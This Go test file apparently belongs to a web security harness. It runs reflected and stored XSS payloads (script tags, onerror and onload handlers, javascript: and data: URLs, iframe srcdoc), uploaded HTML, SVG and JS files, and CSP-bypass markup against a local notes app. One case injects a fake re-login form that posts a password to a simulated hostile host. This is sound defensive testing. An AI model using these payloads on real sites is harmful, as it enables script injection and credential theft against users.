package canon

import (
	"context"
	"net/url"
	"strconv"
	"strings"

	"github.com/chromedp/chromedp"

	"github.com/fumehood/fumehood/internal/testapp"
	"github.com/fumehood/fumehood/test/browser"
)

// xss are scripts that reach a page by two holes of the notes app: the search, which
// reflects, and the text of a note, which is stored. They are carried out three times: with
// all there is, with nothing but the CSP, and without it.
func xss() []Attack {
	const run = "window.owned=true"
	return []Attack{
		reflected("reflected script", `<script>`+run+`</script>`),
		reflected("reflected event handler", `<img src=x onerror=`+run+`>`),
		stored("stored script", `<script>`+run+`</script>`),
		stored("stored event handler", `<img src=x onerror=`+run+`>`),
		stored("stored svg", `<svg onload=`+run+`></svg>`),
		stored("stored frame document", `<iframe srcdoc="<script>parent.owned=true</script>"></iframe>`),
		stored("stored script of a data URL", `<script src="data:text/javascript,`+run+`"></script>`),
		stored("stored link", `<a id="bait" href="javascript:void(`+run+`)">read on</a>`),
		stored("stored form", `<form action="javascript:void(`+run+`)"><button id="bait">read on</button></form>`),
	}
}

func reflected(name, payload string) Attack {
	return Attack{Name: name, Gain: "a link runs a script as whoever follows it", Works: func(s *Scene) bool {
		tab := s.Tab()
		s.Login(tab, s.Join())
		browser.Do(s, tab, chromedp.Navigate(s.URL+"/?q="+url.QueryEscape(payload)))
		return s.owned(tab)
	}}
}

func stored(name, payload string) Attack {
	return Attack{Name: name, Gain: "a text runs a script as whoever reads it", Works: func(s *Scene) bool {
		p := s.Join()
		tab := s.Tab()
		s.Login(tab, p)
		if said := s.sent(tab, "/notes/new", `{title: "bait", tag: "idea", body: `+strconv.Quote(payload)+`}`); said != "" {
			s.Logf("refused: %.100s", said)
			return false
		}
		browser.Do(s, tab, chromedp.Navigate(s.URL+"/"))
		return s.owned(tab)
	}}
}

// noteIn opens the notes of a person who has one with that text.
func (s *Scene) noteIn(text string) context.Context {
	s.Helper()
	tab := s.Tab()
	s.Login(tab, s.Join())
	s.submitted(tab, "/notes/new", `{title: "bait", tag: "idea", body: `+strconv.Quote(text)+`}`)
	browser.Do(s, tab, chromedp.Navigate(s.URL+"/"))
	if title := browser.Get(s, tab, chromedp.Text(css(".note h2"))); title != "bait" {
		s.Fatalf("the note is called %q", title)
	}
	return tab
}

// owned says whether a script of the attacker has run in the page that tab shows. What
// wants a click gets one.
func (s *Scene) owned(tab context.Context) bool {
	s.Helper()
	return browser.Get(s, tab, chromedp.Evaluate[bool](`new Promise(resolve => {
		const bait = document.getElementById("bait");
		if (bait) bait.click();
		setTimeout(() => resolve(window.owned === true), 200);
	})`, chromedp.EvalAwaitPromise))
}

// csp are scripts and styles that the browser is told to get or to take from somewhere,
// by markup that reached the page or by a file that the attacker put on the site. What would
// keep the markup from getting there is off.
func csp() []Attack {
	return []Attack{
		{Name: "script of another site", App: "unjudged", Gain: "a text loads a script", Works: func(s *Scene) bool {
			hostile := s.Hostile(map[string]string{"/own.js": "window.owned=true"})
			return s.owned(s.noteIn(`<script src="` + hostile + `/own.js"></script>`))
		}},
		{Name: "base of another site", App: "unjudged", Gain: "the page's own scripts come from the attacker", Works: func(s *Scene) bool {
			hostile := s.Hostile(map[string]string{"/own.js": "window.owned=true"})
			return s.owned(s.noteIn(`<base href="` + hostile + `/"><script src="own.js"></script>`))
		}},
		{Name: "uploaded page", App: "accepting", Gain: "a file is a page of the site, with its script", Works: func(s *Scene) bool {
			return s.uploaded("page", `<script>window.owned=true</script>`, "")
		}},
		{Name: "uploaded page with a handler", App: "accepting", Gain: "a file is a page of the site, with its script", Works: func(s *Scene) bool {
			return s.uploaded("handler", `<body onload="window.owned=true">`, "")
		}},
		{Name: "uploaded script", App: "accepting", Gain: "a file is a script of the site", Works: func(s *Scene) bool {
			return s.uploaded("script", `<script src="SCRIPT"></script>`, "window.owned=true")
		}},
		{Name: "uploaded script in a note", App: "accepting", Gain: "a text and a file are a script of the site", Works: func(s *Scene) bool {
			p := s.Join()
			s.Upload(s.LoggedIn(p), p.Name+".js", "window.owned=true")
			return s.owned(s.noteIn(`<script src="/files/` + p.Name + `.js"></script>`))
		}},
		{Name: "uploaded page in a frame", App: "accepting", Gain: "a text and a file are a script of the site", Works: func(s *Scene) bool {
			p := s.Join()
			s.Upload(s.LoggedIn(p), p.Name+".html", "<script>parent.owned=true</script>")
			return s.owned(s.noteIn(`<iframe src="/files/` + p.Name + `.html"></iframe>`))
		}},
		{Name: "uploaded style sheet", App: "accepting", Gain: "a text and a file dress the page up", Works: func(s *Scene) bool {
			p := s.Join()
			s.Upload(s.LoggedIn(p), p.Name+".css", "body { --owned: yes }")
			return s.dressed(s.noteIn(`<link rel="stylesheet" href="/files/` + p.Name + `.css">`))
		}},
		{Name: "uploaded picture with a script", App: "accepting", Gain: "a picture is a page of the site", Works: func(s *Scene) bool {
			return s.uploadedAs(".svg", "picture", `<svg xmlns="http://www.w3.org/2000/svg"><script>window.owned=true</script></svg>`, "")
		}},
		{Name: "injected style sheet", App: "unjudged", Gain: "a text dresses the page up", Works: func(s *Scene) bool {
			return s.dressed(s.noteIn(`<style>body { --owned: yes }</style>`))
		}},
		{Name: "injected style", App: "unjudged", Gain: "a text lies over the page", Works: func(s *Scene) bool {
			tab := s.noteIn(`<b id="cover" style="position: fixed; inset: 0">log in again</b>`)
			return browser.Get(s, tab, chromedp.Evaluate[bool](`getComputedStyle(document.getElementById("cover")).position === "fixed"`))
		}},
		{Name: "injected form", App: "unjudged", Gain: "what is typed into the page goes to another site", Works: func(s *Scene) bool {
			hostile := s.Hostile(map[string]string{"/take": "thank you"})
			tab := s.noteIn(`<form id="take" action="` + hostile + `/take"><input name="password" value="secret"><button>Log in again</button></form>`)
			return s.sends(tab, hostile+"/take")
		}},
	}
}

// dressed says whether a style sheet of the attacker counts.
func (s *Scene) dressed(tab context.Context) bool {
	s.Helper()
	return browser.Get(s, tab, chromedp.Evaluate[bool](`getComputedStyle(document.body).getPropertyValue("--owned").trim() === "yes"`))
}

// uploaded opens a page that somebody has put on the site as a file.
func (s *Scene) uploaded(name, page, script string) bool {
	s.Helper()
	return s.uploadedAs(".html", name, "<!doctype html>"+page, script)
}

func (s *Scene) uploadedAs(ending, name, page, script string) bool {
	s.Helper()
	p := s.Join()
	client, name := s.LoggedIn(p), p.Name+name
	if script != "" {
		s.Upload(client, name+".js", script)
	}
	s.Upload(client, name+ending, strings.ReplaceAll(page, "SCRIPT", "/files/"+name+".js"))
	tab := s.Tab()
	s.Login(tab, s.Join())
	// It may also be offered as a download, which ends in no page.
	if err := chromedp.Do(tab, chromedp.Navigate(s.URL+"/files/"+name+ending)); err != nil {
		if strings.Contains(err.Error(), "ERR_ABORTED") {
			return false
		}
		s.Fatal(err)
	}
	return s.owned(tab)
}

// sends presses the button of the form and says whether the browser goes to that page.
func (s *Scene) sends(tab context.Context, page string) bool {
	s.Helper()
	browser.Do(s, tab, chromedp.Evaluate[chromedp.Void](`
		document.addEventListener("securitypolicyviolation", e => { if (e.disposition === "enforce") document.title = "refused" });
		document.querySelector("#take button").click()`))
	went := false
	testapp.Eventually(s, "the form is sent, or refused", func() bool {
		went = strings.HasPrefix(browser.Get(s, tab, chromedp.Location()), page)
		return went || browser.Get(s, tab, chromedp.Title()) == "refused"
	})
	return went
}
